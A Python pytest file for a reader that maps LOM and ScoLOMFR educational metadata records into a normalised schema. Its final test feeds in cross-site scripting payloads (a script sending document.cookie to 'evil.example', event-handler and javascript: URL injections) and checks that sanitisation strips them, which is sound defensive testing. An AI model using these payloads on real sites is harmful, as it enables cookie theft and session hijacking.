"""LOM / ScoLOMFR reader on the two official ScoLOMFR example records and hand-built LOM."""

from __future__ import annotations

from pathlib import Path

import pytest

from core.raw import RawRecord
from schemas.readers import Mapped, MappingError, ReaderContext
from schemas.readers.lom import read_lom
from schemas.record import validate_record

DATA = Path(__file__).parent / "data"
CTX = ReaderContext(source_id="canope-scolomfr", partner="canope", harvested_at="2025-01-02T03:04:05Z")
EXAMPLES = ["ExempleManuelReferenceScoLOMFRv3-1.xml", "ExempleManuelReferenceScoLOMFRv3-2.xml"]
DCMI = "http://purl.org/dc/dcmitype/"
PDF = (
    "http://www.ac-clermont.fr/disciplines/fileadmin/user_upload/Histoire-Geographie/Troisieme/"
    "1GM/recit_Verdun/verdun_recit_fiche_presentation.pdf"
)


def read(content: bytes, fmt: str = "scolomfr", identifier: str = "verdun") -> Mapped:
    return read_lom(RawRecord(identifier=identifier, format=fmt, content=content), CTX)


@pytest.mark.parametrize("name", EXAMPLES)
def test_official_example_levels_and_disciplines(name):
    mapped = read((DATA / name).read_bytes())
    # taxon ids in path order, root first: collection 2015-, collège, 3e
    assert mapped.hints["scolomfr_levels"] == [
        "scolomfr-voc-022-num-626", "scolomfr-voc-022-num-016", "scolomfr-voc-022-num-023",
    ]  # fmt: skip
    # enseignements du collège > histoire et géographie (discipline) > (cycle 4) > programme topic
    assert mapped.hints["scolomfr_disciplines"] == [
        "scolomfr-voc-015-num-1273", "scolomfr-voc-015-num-980", "scolomfr-voc-015-num-1007",
        "scolomfr-voc-015-num-3081",
    ]  # fmt: skip
    assert mapped.hints["scolomfr_contexts"] == ["scolomfr-voc-012-num-003"]
    assert mapped.hints["age_range"] == ["11-15 ans"]
    # the GAR label classification is neither a level nor a discipline: not a label hint
    assert mapped.hints["labels"] == ["Première Guerre mondiale", "Verdun"]


@pytest.mark.parametrize("name", EXAMPLES)
def test_official_example_record(name):
    mapped = read((DATA / name).read_bytes())
    record = validate_record({**mapped.record, "levels": [], "disciplines": []})
    assert record["title"] == [{"value": "La bataille de Verdun", "lang": "fr"}]
    assert record["description"][0]["value"].startswith("À partir d'un extrait du film")
    assert record["description"][0]["lang"] == "fr"
    assert record["languages"] == ["fr"]
    assert [k["value"] for k in record["keywords"]] == ["Première Guerre mondiale", "Verdun"]
    assert record["coverage"]["places"] == ["France"]
    assert record["coverage"]["temporal"] == {"text": "XXème siècle", "start": "1901", "end": "2000"}
    assert [t["id"] for t in record["resource_types"]] == [
        DCMI + "Collection", DCMI + "InteractiveResource", "scolomfr-voc-005-num-034",
        "scolomfr-voc-010-num-001",
    ]  # fmt: skip
    # vCard FN "Nadine" + N "BOUETTE"; the teacher's e-mail is not published
    assert record["contributors"] == [
        {"name": "Nadine BOUETTE", "role": "author", "kind": "person", "email": None}
    ]
    assert record["dates"]["created"] == {"text": "2014-02-20", "start": "2014-02-20", "end": "2014-02-20"}
    assert record["dates"]["issued"] is None
    assert record["url"] == PDF
    assert record["source"]["landing_url"] == PDF
    assert record["duration"] == 150.0  # PT0H02M30S
    assert record["media_type"] is None  # application/octet-stream says nothing
    assert record["access"] == "free"  # cost: no
    assert record["licence"]["code"] == "all-rights-reserved"  # « couverts par le droit d'auteur »
    assert record["rights"].startswith("Tous les contenus présents sur le site")
    assert record["links"] == [{
        "url": "http://www.ac-clermont.fr/", "title": "Site de l'académie de Clermont-Ferrand",
        "media_type": None, "kind": "isPartOf",
    }]  # fmt: skip


HEADER = "<identifier>oai:x:1</identifier><datestamp>2024-05-06</datestamp>"


def oai_lom(body: str, header: str = HEADER) -> bytes:
    return (
        '<record xmlns="http://www.openarchives.org/OAI/2.0/"><header>' + header + "</header>"
        '<metadata><lom xmlns="http://ltsc.ieee.org/xsd/LOM">' + body + "</lom></metadata></record>"
    ).encode()


def test_plain_lom_in_an_oai_record():
    body = """
    <general>
      <title><string language="fr">Fractions au CM2</string><string language="en">Fractions</string></title>
      <language>fr</language>
      <description><string language="fr">Une &lt;em&gt;séance&lt;/em&gt; complète.</string></description>
      <keyword><string language="fr">fractions</string></keyword>
    </general>
    <lifeCycle><contribute>
      <role><source>LOMv1.0</source><value>publisher</value></role>
      <entity>BEGIN:VCARD
VERSION:3.0
ORG:Réseau Canopé
EMAIL;TYPE=INTERNET:contact@reseau-canope.fr
FN:Réseau Canopé
END:VCARD</entity>
      <date><dateTime>2019-09</dateTime></date>
    </contribute></lifeCycle>
    <technical><format>application/pdf</format><location>ftp://nope</location>
      <location>https://example.fr/fractions.pdf</location></technical>
    <educational><learningResourceType><source>LOMv1.0</source><value>exercise</value></learningResourceType>
      <typicalAgeRange><string>9-11</string></typicalAgeRange></educational>
    <rights><cost><value>yes</value></cost>
      <description><string>CC BY-NC-SA 4.0</string></description></rights>
    <relation><kind><value>http://data.education.fr/voc/scolomfr/concept/scolomfr-voc-009-num-021</value></kind>
      <resource><identifier><entry>https://example.fr/vignette.png</entry></identifier></resource></relation>
    <classification><purpose><value>discipline</value></purpose>
      <taxonPath><source><string>autre</string></source>
        <taxon><id>M1</id><entry><string>mathématiques</string></entry></taxon></taxonPath></classification>
    """
    mapped = read(oai_lom(body), fmt="lom", identifier="oai:x:1")
    record = validate_record(mapped.record)
    assert [t["value"] for t in record["title"]] == ["Fractions au CM2", "Fractions"]
    assert record["description"][0]["html"] == "Une <em>séance</em> complète."
    assert record["description"][0]["value"] == "Une séance complète."
    # no person in the vCard: the organisation, with its e-mail
    assert record["contributors"] == [{
        "name": "Réseau Canopé", "role": "publisher", "kind": "organization",
        "email": "contact@reseau-canope.fr",
    }]  # fmt: skip
    assert record["dates"]["issued"]["start"] == "2019-09"
    assert record["url"] == "https://example.fr/fractions.pdf"
    assert record["media_type"] == "application/pdf"
    assert record["thumbnail"] == "https://example.fr/vignette.png"
    assert record["licence"]["code"] == "cc-by-nc-sa-4.0"
    assert record["access"] == "restricted"  # cost: yes
    assert record["resource_types"][0]["label"] == "exercice"
    assert record["source"]["datestamp"] == "2024-05-06T00:00:00Z"
    assert "scolomfr_levels" not in mapped.hints
    assert mapped.hints["labels"] == ["fractions", "mathématiques"]
    assert mapped.hints["age_range"] == ["9-11"]


def test_bare_scolomfr_ids_are_found():
    body = """<general><title><string>Titre</string></title></general>
    <classification><purpose><value>educational level</value></purpose>
      <taxonPath><source><string>scolomfr-voc-022</string></source>
        <taxon><id>scolomfr-voc-022-num-015</id><entry><string>CM2</string></entry></taxon>
      </taxonPath></classification>"""
    mapped = read(oai_lom(body))
    assert mapped.hints["scolomfr_levels"] == ["scolomfr-voc-022-num-015"]
    assert "labels" not in mapped.hints  # the label came with an id


def test_deleted_no_title_and_wrong_metadata():
    deleted = (
        b'<record xmlns="http://www.openarchives.org/OAI/2.0/"><header status="deleted">'
        b"<identifier>a</identifier></header></record>"
    )
    with pytest.raises(MappingError, match="deleted"):
        read(deleted)
    with pytest.raises(MappingError, match="no general/title"):
        read(oai_lom("<general><title><string> </string></title></general>"))
    dc = (
        b'<record xmlns="http://www.openarchives.org/OAI/2.0/"><header><identifier>a</identifier></header>'
        b'<metadata><dc xmlns="http://www.openarchives.org/OAI/2.0/oai_dc/"/></metadata></record>'
    )
    with pytest.raises(MappingError, match="expected a LOM record"):
        read(dc)
    with pytest.raises(MappingError, match="unreadable XML"):
        read(b"<lom><general>")


def test_hostile_lom_description_comes_out_harmless():
    body = """<general>
      <title><string language="http://id.loc.gov/vocabulary/iso639-2/fre">Titre\u202e</string></title>
      <description><string language="fre"><![CDATA[<div style="background:url(javascript:alert(1))">
        <p onmouseover="steal()">Bonjour <strong>élèves</strong></p>
        <script>document.location='https://evil.example/?'+document.cookie</script>
        <style>body{display:none}</style><svg onload="alert(2)"><circle/></svg>
        <img src="x" onerror="alert(3)"><a href="javascript:alert(4)">piège</a>
        <a href="https://eduscol.education.fr/">Éduscol</a></div>]]></string></description>
    </general>
    <technical><location>javascript:alert(5)</location></technical>"""
    record = validate_record(read(oai_lom(body)).record)
    assert record["title"] == [{"value": "Titre", "lang": "fr"}]
    description = record["description"][0]
    html = description["html"].lower()
    for needle in ("script", "alert", "onmouseover", "onerror", "onload", "style", "javascript",
                   "svg", "cookie", "evil.example"):  # fmt: skip
        assert needle not in html, needle
    assert "<strong>élèves</strong>" in description["html"]
    assert 'href="https://eduscol.education.fr/"' in description["html"]
    assert description["value"] == "Bonjour élèves\npiège Éduscol"
    assert record["url"] is None
